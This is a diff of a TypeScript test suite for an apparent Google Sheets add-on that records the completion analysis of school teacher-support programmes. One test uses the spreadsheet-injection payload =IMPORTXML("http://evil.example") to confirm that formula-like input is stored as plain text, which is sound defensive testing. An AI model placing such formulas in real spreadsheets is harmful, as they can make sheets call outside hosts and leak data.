@@ -6,8 +6,9 @@
 import type { Addon } from '../helpers/addon';
 import { T, validSchool } from '../helpers/school';
 import { CONCLUSION_NEEDS, CONCLUSION_OUTCOMES, CONCLUSION_PROBLEMS } from '../../src/domain/options';
+import { newProgramme, planItem, type Payload } from '../helpers/payloads';
+import { asErr } from '../helpers/wire';
 
-type Result<R = unknown> = { status: 'success'; response: R } | { status: 'error'; type: string; message: string; fields?: Record<string, string> };
 type Row = { id: string | null; problem: string; before: string; after: string; method: string; conclusions: string };
 type Page = {
   programmes: Array<{ value: string; label: string; group: string }>;
@@ -24,15 +25,15 @@ function rows(addon: Addon, tab: string): Array<Record<string, string>> {
   return data.map((r) => Object.fromEntries(headers!.map((h, i) => [h, r[i]!])));
 }
 
-function page(addon: Addon, input: unknown = {}): Page {
-  const result = addon.call<Result<Page>>('getCompletionPage', input);
+function page(addon: Addon, input: Payload<'getCompletionPage'> = {}): Page {
+  const result = addon.call('getCompletionPage', input);
   if (result.status !== 'success') throw new Error(result.message);
   return result.response;
 }
 
 const row = (problem: string, extra: Partial<Row> = {}): Row => ({ id: null, problem, before: '', after: '', method: '', conclusions: '', ...extra });
 
-const conclusion = (extra: Record<string, unknown> = {}) => ({
+const conclusion = (extra: Partial<Payload<'saveCompletion'>> = {}): Payload<'saveCompletion'> => ({
   programmeId: 'P00001',
   rows: [row('Дисциплина на уроке', { id: 'A00001', before: 'шум на уроках', after: 'рабочая тишина', method: 'анализ уроков', conclusions: 'проблема снята' })],
   outcome: 'successful',
@@ -48,26 +49,13 @@ const conclusion = (extra: Record<string, unknown> = {}) => ({
 
 /** A second programme with three problems and no analysis yet. */
 function withFreshProgramme(addon: Addon): string {
-  const saved = addon.call<Result<{ programmeId: string }>>('saveProgramme', {
-    programmeId: null,
-    draft: false,
-    teacherId: 'T00001',
-    categories: ['methodical'],
-    sources: [],
-    problems: 'Оценивание\nПланирование урока\n<b>Родители</b>',
-    leadId: 'T00002',
-    participantsIds: [],
-    decisionDate: '2026-09-01',
-    helpForms: ['coaching'],
-    emphasis: '',
-    place: '',
-    start: '2026-09-07',
-    end: '2027-05-31',
-    items: [
-      { id: null, content: 'Посещение уроков', deadline: '2026-10-15', supportedActivity: '', supporterActivity: '', jointActivity: '', checkpoint: 'openLesson' },
-      { id: null, content: 'Эссе', deadline: '2027-02-01', supportedActivity: '', supporterActivity: '', jointActivity: '', checkpoint: '' },
-    ],
-  });
+  const saved = addon.call(
+    'saveProgramme',
+    newProgramme({
+      problems: 'Оценивание\nПланирование урока\n<b>Родители</b>',
+      items: [planItem('Посещение уроков', '2026-10-15', { checkpoint: 'openLesson' }), planItem('Эссе', '2027-02-01')],
+    }),
+  );
   if (saved.status !== 'success') throw new Error(JSON.stringify(saved));
   return saved.response.programmeId;
 }
@@ -110,7 +98,7 @@ test('a programme without analysis rows is pre-filled with one row per problem',
 test('saving writes the analysis, the conclusion and the status «завершена»', () => {
   const addon = validSchool();
   const id = withFreshProgramme(addon);
-  const result = addon.call<Result<{ rowIds: string[]; statusLabel: string }>>(
+  const result = addon.call(
     'saveCompletion',
     conclusion({
       programmeId: id,
@@ -151,14 +139,14 @@ test('saving writes the analysis, the conclusion and the status «заверше
   expect(again.prefilled).toBe(false);
   expect(again.rows.map((r) => r.id)).toEqual(ids);
   expect(again.programmes.find((p) => p.value === id)).toMatchObject({ group: 'Завершённые' });
-  const check = addon.call<Result<{ problems: Array<{ tab: string }> }>>('runDataCheck');
+  const check = addon.call('runDataCheck');
   expect(check.status === 'success' && check.response.problems.filter((p) => p.tab === 'Анализ итогов' || p.tab === 'Программы')).toEqual([]);
 });
 
 test('existing rows are updated in place, removed ones deleted, new ones appended', () => {
   const addon = validSchool();
   const first = conclusion({ rows: [row('Дисциплина на уроке', { id: 'A00001', after: 'тишина' }), row('Мотивация учащихся')] });
-  const saved = addon.call<Result<{ rowIds: string[] }>>('saveCompletion', first) as { response: { rowIds: string[] } };
+  const saved = addon.call('saveCompletion', first) as { response: { rowIds: string[] } };
   expect(saved.response.rowIds[0]).toBe('A00001');
   const added = saved.response.rowIds[1]!;
   expect(rows(addon, 'Анализ итогов').map((r) => [r.ID, r.Проблема, r['Состояние после завершения сопровождения']])).toEqual([
@@ -172,7 +160,7 @@ test('existing rows are updated in place, removed ones deleted, new ones appende
 test('validation errors per field; nothing is written', () => {
   const addon = validSchool();
   const before = addon.snapshot();
-  const fields = (input: unknown) => (addon.call<Result>('saveCompletion', input) as { fields?: Record<string, string> }).fields;
+  const fields = (input: Payload<'saveCompletion'>) => asErr(addon.call('saveCompletion', input)).fields;
   expect(fields(conclusion({ rows: [], outcome: '', problemsResult: '', needs: [], conclusionDate: '' }))).toEqual({
     rows: 'Добавьте хотя бы одну проблему в анализ итогов',
     outcome: 'Выберите один вариант',
@@ -203,7 +191,7 @@ test('a draft cannot be completed', () => {
 
 test('text that looks like a formula is stored as text', () => {
   const addon = validSchool();
-  const result = addon.call<Result>('saveCompletion', conclusion({ rows: [row('=IMPORTXML("http://evil.example")', { id: 'A00001', conclusions: '@все' })], furtherWays: '-наставничество' }));
+  const result = addon.call('saveCompletion', conclusion({ rows: [row('=IMPORTXML("http://evil.example")', { id: 'A00001', conclusions: '@все' })], furtherWays: '-наставничество' }));
   expect(result.status).toBe('success');
   expect(rows(addon, 'Анализ итогов')[0]).toMatchObject({ Проблема: '=IMPORTXML("http://evil.example")', Выводы: '@все' });
   expect(rows(addon, 'Программы')[0]!['Наиболее эффективные пути (способы) дальнейшего сопровождения']).toBe('-наставничество');
@@ -213,7 +201,7 @@ test('text that looks like a formula is stored as text', () => {
 test('one read per tab and block writes', () => {
   const addon = validSchool();
   addon.emulator.calls.reset();
-  expect(addon.call<Result>('saveCompletion', conclusion({ rows: [row('Дисциплина', { id: 'A00001' }), row('Мотивация'), row('Оценивание')] })).status).toBe('success');
+  expect(addon.call('saveCompletion', conclusion({ rows: [row('Дисциплина', { id: 'A00001' }), row('Мотивация'), row('Оценивание')] })).status).toBe('success');
   // Programmes and the analysis read once; the updated row, the two new ones, the programme: three writes.
   expect(addon.emulator.calls.get('Values.batchGet')).toBe(2);
   expect(addon.emulator.calls.get('Range.setValues')).toBe(3);
